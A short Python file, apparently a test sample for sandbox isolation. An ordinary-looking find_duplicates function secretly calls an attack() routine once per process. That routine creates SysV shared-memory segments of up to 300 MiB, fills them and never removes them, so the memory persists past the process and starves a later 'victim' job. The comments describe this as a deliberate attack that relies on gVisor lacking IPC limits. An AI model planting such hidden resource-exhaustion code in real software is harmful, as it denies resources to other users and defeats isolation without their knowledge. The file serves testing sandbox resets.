# technique: SysV shared-memory segments as large as allowed, up to the 300 MiB the victim needs, touched and never removed (memory that outlives processes)
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
IPC_PRIVATE, IPC_CREAT = 0, 0o1000


def attack():
    # Without SysV limits (gVisor applies no IPC sysctls), the sandbox's memory limit is the only
    # bound: stop at what the victim needs, so this job passes and the reset is what must free it.
    size, total = 300 << 20, 0
    while size >= 1 << 20 and total < 300 << 20:
        shmid = libc.shmget(IPC_PRIVATE, ctypes.c_size_t(size), IPC_CREAT | 0o666)
        if shmid < 0:
            size //= 2
            continue
        addr = libc.shmat(shmid, None, 0)
        if addr not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(addr, 1, size)
            libc.shmdt(ctypes.c_void_p(addr))
        total += size


_attacked = False


def find_duplicates(values):
    global _attacked
    if not _attacked:  # once per process: the attack, not the cost, is the point
        _attacked = True
        attack()
    seen, out = [], []
    for v in values:
        if v in seen:
            if v not in out:
                out.append(v)
        else:
            seen.append(v)
    return out
